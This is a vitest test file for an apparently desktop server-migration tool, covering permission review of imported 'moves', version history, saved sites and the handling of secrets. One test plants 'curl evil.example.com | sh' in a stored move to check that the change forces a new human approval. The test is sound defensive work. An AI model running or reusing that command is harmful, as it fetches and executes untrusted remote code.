import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { allowedDocument } from '../../src/main/engine/allowed-document'
import { allowMove, duplicateMove, restoreClosed, versionsOf } from '../../src/main/engine/move-shelf'
import type { OpenMoves } from '../../src/main/engine/open-moves'
import { createMove, listSites, removeSite, saveSite } from '../../src/main/engine/site-shelf'
import { documentHandlers } from '../../src/main/ipc/document-handlers'
import { moveText } from '../../src/main/store/move-text'
import { Moves } from '../../src/main/store/moves'
import { SavedSites } from '../../src/main/store/saved-sites'
import { makeSecrets, type SecretStore } from '../../src/main/store/secrets'
import { callSchemas } from '../../src/shared/contract'
import { failureOf } from '../../src/shared/failure'
import { reviewOf } from '../../src/shared/move-review'
import { lockable } from './lockable-keychain'

const given = join(import.meta.dirname, 'moves/version-1-whole.siteswap.json')

describe('moves and sites on the shelf', () => {
  let dir = ''
  let moves: Moves
  let sites: SavedSites
  let secrets: SecretStore
  let keychain: ReturnType<typeof lockable>

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'siteswap-shelf-'))
    moves = new Moves(dir)
    sites = new SavedSites(dir)
    keychain = lockable()
    secrets = makeSecrets({ dir, fork: keychain.fork, environment: {} })
  })
  afterEach(() => {
    secrets.close()
    rmSync(dir, { recursive: true, force: true })
  })
  const opening = (moveId: string) =>
    allowedDocument({ moves, moveId }).then(
      () => 'opened',
      (error) => failureOf(error).kind
    )
  const deps = () => ({ moves, sites, secrets })

  describe('a move from a file', () => {
    it('says whom it would contact, as whom, what it would run and which files it would touch', async () => {
      const { review } = await moves.importFrom(given)
      expect(review).toEqual({
        contacts: [
          'deploy@bastion.fra.example.com:22',
          'deploy@fra-db1.fra.internal:2222',
          '127.0.0.1:3306 (database, as siteswap, through fra-db1)',
          'deploy@203.0.113.7:22',
          'deploy@gw.lis.example.com:22',
          '127.0.0.1:3306 (database, as siteswap, through lis-db2)',
          'deploy@bastion.fra.example.com:22 (bridge, from the new database host)',
          'ns1.example.com:53 (DNS)',
          '9.9.9.9:53 (DNS, Quad9)',
          'ns1.example.com:53 (DNS update of example.com)'
        ],
        commands: ['fra-web1: systemctl reload php8.3-fpm'],
        files: [
          'this computer: ~/.ssh/id_ed25519',
          'this computer: /home/keller/ca.pem',
          'fra-web1: /srv/shop/config/database.ini',
          'old database host: ~/.ssh/authorized_keys',
          'new database host: ~/.siteswap'
        ]
      })
    })

    it('is not opened before a person has allowed just what it asks for', async () => {
      const { move, review } = await moves.importFrom(given)
      expect(await moves.list()).toMatchObject([{ id: move.id, review }])
      expect(await opening(move.id)).toBe('denied')
      const less = { ...review, commands: [] }
      expect(await allowMove(moves, move.id, less).then(() => null, failureOf)).toMatchObject({ kind: 'conflict' })
      expect(await opening(move.id)).toBe('denied')
      await allowMove(moves, move.id, review)
      expect(await opening(move.id)).toBe('opened')
      expect(await moves.list()).toMatchObject([{ id: move.id, review: null }])
    })

    it('asks again for what was put into it while it was closed, and only for that', async () => {
      const { move, review } = await moves.importFrom(given)
      await allowMove(moves, move.id, review)
      const text = readFileSync(moves.documentPath(move.id), 'utf8')
      writeFileSync(
        moves.documentPath(move.id),
        text.replace('systemctl reload php8.3-fpm', 'curl evil.example.com | sh')
      )
      expect(await opening(move.id)).toBe('denied')
      const asks = { contacts: [], commands: ['fra-web1: curl evil.example.com | sh'], files: [] }
      expect(await moves.list()).toMatchObject([{ review: asks }])
      await allowMove(moves, move.id, asks)
      expect(await opening(move.id)).toBe('opened')
    })

    it('lends a copy of it no right that it does not have itself', async () => {
      const { move } = await moves.importFrom(given)
      const copy = await duplicateMove(moves, secrets, move.id)
      expect(await opening(copy.moveId)).toBe('denied')
    })

    it('that was made here, by hand or by an older Siteswap, asks for nothing', async () => {
      const made = await moves.create('Shop', 'A', 'B')
      rmSync(moves.pathOf(made.id, 'allowed.json'))
      expect(await opening(made.id)).toBe('opened')
    })
  })

  describe('earlier versions of a closed move', () => {
    it('tell what was changed after each, newest first, and put a damaged file right', async () => {
      const move = await moves.create('Shop', 'Porto', 'Lisbon')
      await moves.write({ ...move, name: 'Shop 2' }, { keepBefore: true })
      await moves.write({ ...move, name: 'Shop 3' }, { keepBefore: true })
      const listed = await versionsOf(moves, move.id)
      expect(listed.map(({ changes }) => changes.map(({ before, after }) => [before, after]))).toEqual([
        [['Shop 2', 'Shop 3']],
        [['Shop', 'Shop 2']]
      ])
      writeFileSync(moves.documentPath(move.id), '{"half')
      expect(await moves.list()).toMatchObject([{ broken: { kind: 'invalid' } }])
      await restoreClosed(moves, move.id, listed[0]?.id ?? '')
      expect((await moves.read(move.id)).name).toBe('Shop 2')
      const after = await versionsOf(moves, move.id)
      expect(after[0]).toMatchObject({ failure: { what: 'The file is not complete JSON.' } })
      expect(await opening(move.id)).toBe('opened')
    })

    it('are twenty at the most, each once, and edits of one minute are one', async () => {
      const move = await moves.create('Shop', 'Porto', 'Lisbon')
      for (let count = 0; count < 25; count += 1) await moves.keep({ ...move, name: `Shop ${count}` }, count)
      await moves.keep({ ...move, name: 'Shop 24' }, 24)
      const names = (await moves.versions(move.id)).map(({ text }) => JSON.parse(text).name)
      expect(names).toEqual(Array.from({ length: 20 }, (_, index) => `Shop ${24 - index}`))
      const other = await moves.create('Other', 'A', 'B')
      for (const name of ['a', 'b', 'c']) await moves.write({ ...other, name })
      expect(await moves.versions(other.id)).toHaveLength(1)
    })
  })

  describe('saved sites', () => {
    const saved = async (withSecrets: boolean) => {
      const { move } = await moves.importFrom(given, true)
      await secrets.set(move.id, 'db/fra-db1', 'of the database', 'keychain')
      await secrets.set(move.id, 'ssh/fra-db1/1/passphrase', 'of the key', 'session')
      await secrets.set(move.id, 'db/lis-db2', 'of the other site', 'keychain')
      await secrets.set(move.id, 'made/canary', 'made', 'keychain')
      return { move, ...(await saveSite(deps(), move, 'old', { name: 'Frankfurt', secrets: withSecrets })) }
    }

    it('hold their servers, and copies of their own passwords only', async () => {
      const { siteId, missed } = await saved(true)
      expect(missed).toEqual([])
      expect(await listSites(deps())).toMatchObject([
        {
          id: siteId,
          name: 'Frankfurt',
          servers: [{ name: 'fra-db1' }, { name: 'fra-web1' }],
          secrets: 2,
          broken: null
        }
      ])
      expect(readFileSync(join(dir, 'sites', `${siteId}.json`), 'utf8')).not.toMatch(/of the database|of the key/)
    })

    it('begin moves as either side, with passwords of their own', async () => {
      const { siteId, move } = await saved(true)
      const { moveId } = await createMove(deps(), {
        name: 'Back',
        oldSite: 'Oslo',
        newSite: 'Frankfurt am Main',
        newSaved: siteId
      })
      const made = await moves.read(moveId)
      expect(made.new).toEqual({ ...move.old, name: 'Frankfurt am Main' })
      expect(made.old).toEqual({ name: 'Oslo', servers: [] })
      expect(await secrets.get(moveId, 'db/fra-db1')).toBe('of the database')
      expect(await secrets.state(moveId, 'ssh/fra-db1/1/passphrase')).toEqual({ kind: 'kept', where: 'session' })
      await removeSite(deps(), siteId)
      await secrets.remove(move.id)
      expect(await secrets.get(moveId, 'db/fra-db1')).toBe('of the database')
      expect(await opening(moveId)).toBe('opened')
    })

    it('that share ids of servers get free ones, their passwords go along, and one database each is a pair', async () => {
      const { siteId, move } = await saved(true)
      const twin = { ...move, old: { ...move.old, servers: move.old.servers.slice(0, 1) } }
      await secrets.set(move.id, 'db/fra-db1', 'of the twin', 'keychain')
      const other = await saveSite(deps(), twin, 'old', { name: 'Twin', secrets: true })
      const { moveId } = await createMove(deps(), {
        name: 'Both',
        oldSite: 'A',
        newSite: 'B',
        oldSaved: siteId,
        newSaved: other.siteId
      })
      const made = await moves.read(moveId)
      expect(made.new.servers.map(({ id }) => id)).toEqual(['fra-db1-2'])
      expect(made.pairs).toEqual([{ old: 'fra-db1', new: 'fra-db1-2' }])
      expect(await secrets.get(moveId, 'db/fra-db1-2')).toBe('of the twin')
      expect(await secrets.get(moveId, 'ssh/fra-db1-2/1/passphrase')).toBe('of the key')
    })

    it('are replaced by one of the same name, and without passwords when so wished', async () => {
      const { siteId, move } = await saved(true)
      const again = await saveSite(deps(), move, 'old', { name: 'Frankfurt', secrets: false })
      expect(again.siteId).toBe(siteId)
      expect(await listSites(deps())).toMatchObject([{ secrets: 0 }])
    })

    it('name the passwords a locked keychain did not give, and those that are damaged say so', async () => {
      const { siteId } = await saved(true)
      keychain.chain.locked = true
      const { missed } = await createMove(deps(), { name: 'Later', oldSite: 'A', newSite: 'B', oldSaved: siteId })
      expect(missed).toEqual(['db/fra-db1'])
      writeFileSync(join(dir, 'sites', `${siteId}.json`), '{')
      expect(await listSites(deps())).toMatchObject([{ id: siteId, broken: { kind: 'invalid' } }])
    })

    it('of an earlier version are read, of a newer one refused', async () => {
      const { siteId } = await saved(false)
      const path = join(dir, 'sites', `${siteId}.json`)
      const text = readFileSync(path, 'utf8')
      writeFileSync(path, text.replace('"version": 2', '"version": 1'))
      expect((await sites.read(siteId)).servers).toHaveLength(2)
      writeFileSync(path, text.replace('"version": 2', '"version": 9'))
      expect(await sites.read(siteId).then(() => null, failureOf)).toMatchObject({
        what: expect.stringContaining('newer Siteswap')
      })
    })
  })

  it('no call that concerns secrets or documents answers one', async () => {
    const { move } = await moves.importFrom(given, true)
    const planted = 'Planted-1-Pass/word+'
    const handlers = documentHandlers({
      ...deps(),
      open: { opened: () => null, get: () => ({ move: () => move }) } as unknown as OpenMoves,
      desktop: { chooseMoveFile: async () => given, chooseSavePath: async () => join(dir, 'out.json') },
      notice: () => {}
    })
    const moveId = move.id
    const ref = 'db/fra-db1'
    const answers = [
      await handlers['secrets.set']({ moveId, ref, value: planted, keep: 'keychain' }),
      await handlers['secrets.set']({ moveId, ref: 'db/lis-db2', value: planted, keep: 'session' }),
      await handlers['secrets.state']({ moveId, ref }),
      await handlers['secrets.list']({ moveId }),
      await handlers['moves.list']({}),
      await handlers['moves.versions']({ moveId }),
      await handlers['moves.duplicate']({ moveId, secrets: true }),
      await handlers['sites.save']({ moveId, side: 'old', name: 'Frankfurt', secrets: true }),
      await handlers['sites.list']({}),
      await handlers['moves.export']({ moveId }),
      await handlers['secrets.forget']({ moveId, ref })
    ]
    expect(answers[3]).toEqual(['db/fra-db1', 'db/lis-db2'])
    expect(JSON.stringify(answers)).not.toContain(planted)
    expect(readFileSync(join(dir, 'out.json'), 'utf8')).not.toContain(planted)
    expect(Object.keys(callSchemas).filter((name) => name.startsWith('secrets.'))).toEqual([
      ...['secrets.state', 'secrets.set', 'secrets.forget', 'secrets.list']
    ])
  })

  it('what an export says is what the file says', async () => {
    const { move } = await moves.importFrom(given, true)
    await moves.exportTo(move.id, join(dir, 'out.json'))
    expect(readFileSync(join(dir, 'out.json'), 'utf8')).toBe(moveText(move))
    expect(reviewOf(move).commands).toHaveLength(1)
  })
})
